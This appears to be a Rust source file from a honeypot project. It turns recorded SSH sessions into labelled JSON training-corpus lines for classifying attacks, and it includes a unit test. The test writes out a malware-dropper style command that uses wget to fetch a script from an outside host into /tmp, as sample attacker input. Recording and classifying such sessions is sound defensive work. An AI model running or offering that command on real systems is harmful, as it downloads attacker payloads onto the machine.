//! The node's own recorded sessions as a training corpus: stored events grouped by session and
//! written as corpus lines in the format of the shared training data (one JSON object per
//! session: `source`, `session`, `start`, `username`, `password`, `commands` with `t` in seconds,
//! `downloads`, `duration`, `protocol`, `client_version`, `auth`, `label`, `label_rule`), so
//! `mirage train --from store` trains on exactly what it would read from a corpus file.
//!
//! Only SSH sessions that ran at least one command become lines, as in the shared corpus. The
//! label is the R1–R8 rule labeller's over the whole session. Attacker addresses are not copied.

use std::collections::BTreeMap;

use chrono::{DateTime, Utc};
use serde_json::{Value, json};

use super::labels::label;
use crate::events::{Event, EventKind, Protocol};

#[derive(Default)]
struct Building {
    start: Option<DateTime<Utc>>,
    username: Option<String>,
    password: Option<String>,
    client_version: Option<String>,
    commands: Vec<(f64, String)>,
    downloads: Vec<Value>,
    duration: Option<f64>,
    ssh: bool,
}

/// Corpus lines (JSON objects) for the sessions among `events`, oldest session first; `node`
/// names the source (`store:<node>`).
pub fn corpus_lines(events: &[Event]) -> Vec<Value> {
    let mut sessions: BTreeMap<&str, Building> = BTreeMap::new();
    let mut order: Vec<&str> = Vec::new();
    let mut nodes: BTreeMap<&str, &str> = BTreeMap::new();
    for event in events {
        let id = event.session.0.as_str();
        let entry = sessions.entry(id).or_insert_with(|| {
            order.push(id);
            Building::default()
        });
        nodes.entry(id).or_insert(event.node.as_str());
        let start = *entry.start.get_or_insert(event.timestamp);
        entry.ssh |= event.protocol == Protocol::Ssh;
        match &event.kind {
            EventKind::LoginSuccess { username, password } => {
                entry.username = Some(username.clone());
                entry.password = Some(password.clone());
            }
            EventKind::ClientVersion { version } => entry.client_version = Some(version.clone()),
            EventKind::CommandInput { input } => {
                let t = (event.timestamp - start).num_milliseconds().max(0) as f64 / 1000.0;
                entry.commands.push((t, input.clone()));
            }
            EventKind::FileDownload { url, shasum, .. } => {
                entry.downloads.push(json!({"url": url, "sha256": shasum}));
            }
            EventKind::SessionClosed { duration_ms } => {
                entry.duration = Some(*duration_ms as f64 / 1000.0);
            }
            _ => {}
        }
    }
    order
        .into_iter()
        .filter_map(|id| {
            let s = sessions.remove(id)?;
            if !s.ssh || s.commands.is_empty() {
                return None;
            }
            let lines: Vec<(Option<f64>, &str)> = s
                .commands
                .iter()
                .map(|(t, input)| (Some(*t), input.as_str()))
                .collect();
            let found = label(&lines);
            let auth = match s.password.as_deref() {
                Some("") => "none",
                _ => "password",
            };
            Some(json!({
                "source": format!("store:{}", nodes.get(id).copied().unwrap_or("node")),
                "session": id,
                "src_ip_hash": null,
                "start": s.start.map(|t| t.to_rfc3339_opts(chrono::SecondsFormat::Secs, true)),
                "username": s.username,
                "password": s.password,
                "commands": s.commands.iter().map(|(t, input)| json!({"t": t, "input": input})).collect::<Vec<_>>(),
                "downloads": s.downloads,
                "duration": s.duration,
                "protocol": "ssh",
                "client_version": s.client_version,
                "auth": auth,
                "label": found.class.as_str(),
                "label_rule": found.rule,
            }))
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::events::{SessionId, SessionOrigin};
    use crate::models::evaluate::read_corpus;

    fn origin(session: &str, protocol: Protocol) -> SessionOrigin {
        SessionOrigin {
            node: "node-a".into(),
            session: SessionId(session.into()),
            protocol,
            src: "203.0.113.5:40000".parse().unwrap(),
            dst: "192.0.2.1:22".parse().unwrap(),
        }
    }

    fn at(origin: &SessionOrigin, seconds: i64, kind: EventKind) -> Event {
        let mut event = origin.event(kind);
        event.timestamp = DateTime::parse_from_rfc3339("2026-11-01T10:00:00Z")
            .unwrap()
            .with_timezone(&Utc)
            + chrono::TimeDelta::seconds(seconds);
        event
    }

    #[test]
    fn stored_events_become_labelled_corpus_sessions() {
        let a = origin("aaaa", Protocol::Ssh);
        let idle = origin("bbbb", Protocol::Ssh);
        let web = origin("cccc", Protocol::Http);
        let events = vec![
            at(&a, 0, EventKind::SessionConnect),
            at(&idle, 0, EventKind::SessionConnect),
            at(
                &a,
                1,
                EventKind::ClientVersion {
                    version: "SSH-2.0-Go".into(),
                },
            ),
            at(
                &a,
                2,
                EventKind::LoginSuccess {
                    username: "root".into(),
                    password: "admin".into(),
                },
            ),
            at(
                &a,
                3,
                EventKind::CommandInput {
                    input: "uname -a".into(),
                },
            ),
            at(
                &web,
                3,
                EventKind::CommandInput {
                    input: "GET /".into(),
                },
            ),
            at(
                &a,
                5,
                EventKind::CommandInput {
                    input: "cd /tmp; wget http://198.51.100.7/x.sh".into(),
                },
            ),
            at(&a, 6, EventKind::SessionClosed { duration_ms: 6000 }),
        ];
        let lines = corpus_lines(&events);
        assert_eq!(lines.len(), 1, "only SSH sessions with commands: {lines:?}");
        let text: String = lines.iter().map(|l| format!("{l}\n")).collect();
        let sessions = read_corpus(&text).unwrap();
        let s = &sessions[0];
        assert_eq!(s.source, "store:node-a");
        assert_eq!(s.start, "2026-11-01T10:00:00Z");
        assert_eq!(s.commands.len(), 2);
        assert_eq!(s.commands[1].t, Some(5.0));
        assert_eq!(s.label.as_deref(), Some("malware_dropper"));
        assert_eq!(lines[0]["client_version"], "SSH-2.0-Go");
        assert_eq!(lines[0]["username"], "root");
        assert_eq!(lines[0]["duration"], 6.0);
        assert!(lines[0].get("src_ip").is_none());
    }
}
